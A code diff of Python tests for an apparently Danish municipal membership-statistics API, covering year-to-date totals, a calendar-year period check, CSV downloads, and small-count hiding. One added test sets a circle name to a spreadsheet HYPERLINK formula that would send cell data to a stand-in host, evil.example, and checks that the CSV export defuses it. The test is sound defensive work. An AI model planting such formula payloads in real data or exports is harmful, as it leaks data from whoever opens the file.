@@ -19,6 +19,7 @@ from tests.factories import (
 )
 
 LAST_YEAR = datetime(2025, 5, 1, 12, tzinfo=UTC)
+JANUARY = datetime(2026, 1, 12, 12, tzinfo=UTC)
 FEBRUARY = datetime(2026, 2, 10, 12, tzinfo=UTC)
 MARCH = datetime(2026, 3, 10, 12, tzinfo=UTC)
 PERIOD = "?from=2026-02&to=2026-03"
@@ -33,8 +34,9 @@ def cells(fig, row_key):
     return dict(zip([c["key"] for c in fig["columns"]], row["cells"], strict=True))
 
 
-def build_aarhus(make_client, risskov_in_march):
-    """Three circles of ten members each from last year, and new members in February and March."""
+def build_aarhus(make_client, risskov_in_march, in_january=0):
+    """Three circles of ten members each from last year, and new members in February and March
+    (and January, when given)."""
     municipality = make_municipality("Aarhus")
     circles = []
     for name, february, march in (
@@ -44,6 +46,8 @@ def build_aarhus(make_client, risskov_in_march):
     ):
         circle = make_circle(name, municipality=municipality)
         make_members_joined(circle, LAST_YEAR, 10, name="Birthe Secretname")
+        if in_january:
+            make_members_joined(circle, JANUARY, in_january)
         make_members_joined(circle, FEBRUARY, february)
         make_members_joined(circle, MARCH, march)
         circles.append(circle)
@@ -57,17 +61,28 @@ def aarhus(make_client):
     return build_aarhus(make_client, 3)
 
 
+@time_machine.travel("2026-03-20 10:00Z", tick=False)
 def test_staff_see_members_by_month_and_circle(make_client):
-    municipality, big, small, staff = build_aarhus(make_client, 6)
+    municipality, big, small, staff = build_aarhus(make_client, 6, in_january=7)
     response = staff.get(f"/api/v1/municipalities/{municipality.id}/stats{PERIOD}")
     assert response.status_code == 200, response.get_json()
     body = response.get_json()
     assert body["months"] == ["2026-02", "2026-03"]
+    # The total is the year's so far, the same whichever months are asked for.
+    assert body["total_months"] == ["2026-01", "2026-02", "2026-03"]
     new = cells(figure(body, "new_members"), big.id)
-    assert (new["2026-02"], new["2026-03"], new["all"]) == (10, 20, 30)
-    assert cells(figure(body, "circle_members"), big.id) == {"2026-03": 40}
-    assert cells(figure(body, "members"), "all") == {"2026-02": 75, "2026-03": 126}
+    assert (new["2026-02"], new["2026-03"], new["all"]) == (10, 20, 37)
+    assert figure(body, "new_members")["columns"][-1]["label"] == "I alt 2026 indtil nu"
+    assert cells(figure(body, "circle_members"), big.id) == {"2026-03": 47}
+    assert cells(figure(body, "members"), "all") == {"2026-02": 96, "2026-03": 147}
     assert cells(figure(body, "active_members"), big.id)["2026-03"]["reason"] == "fewer_than_5"
+
+
+def test_a_period_lies_within_one_calendar_year(aarhus):
+    municipality, _, _, staff = aarhus
+    url = f"/api/v1/municipalities/{municipality.id}/stats?from=2025-11&to=2026-02"
+    refused = staff.get(url)
+    assert refused.status_code == 422 and "kalenderår" in refused.get_json()["message"]
 
 
 def test_small_counts_are_fewer_than_5_and_differences_give_nothing_away(aarhus):
@@ -131,10 +146,20 @@ def test_each_figure_downloads_as_csv(aarhus):
     assert response.status_code == 200
     assert response.mimetype == "text/csv"
     lines = response.get_data(True).splitlines()
-    assert lines[0] == ",2026-02,2026-03,I alt"
+    assert lines[0].startswith(",2026-02,2026-03,I alt 2026")  # the year's total
     assert any(line.startswith("Risskov,") and "under 5" in line for line in lines)
     missing = staff.get(f"/api/v1/municipalities/{municipality.id}/stats/salaries.csv")
     assert missing.status_code == 404
+
+
+def test_a_circle_named_like_a_formula_stays_text_in_the_csv(aarhus):
+    municipality, big, _, staff = aarhus
+    big.name = '=HYPERLINK("http://evil.example/?d="&B2,"Trøjborg")'
+    db.session.commit()
+    url = f"/api/v1/municipalities/{municipality.id}/stats/new_members.csv{PERIOD}"
+    lines = staff.get(url).get_data(True).splitlines()
+    assert any(line.startswith("\"'=HYPERLINK(") for line in lines)
+    assert not any(line.lstrip('"').startswith(("=", "+", "-", "@")) for line in lines)
 
 
 def test_viewing_and_downloading_are_in_the_audit_log(aarhus):
@@ -188,7 +213,7 @@ def test_helpers_vetting_status_is_counted_with_small_numbers_hidden(make_client
                 membership.vetted_on, membership.vetting_expires_on = met, expires
     db.session.commit()
     url = f"/api/v1/municipalities/{municipality.id}/stats?from=2026-02&to=2026-03"
-    with time_machine.travel("2026-11-23 10:00Z", tick=False):
+    with time_machine.travel("2026-03-31 10:00Z", tick=False):
         # Signed in at that time: a session cookie from a later real time would not be valid yet.
         staff = make_client(make_staff(municipality))
         body = staff.get(url).get_json()
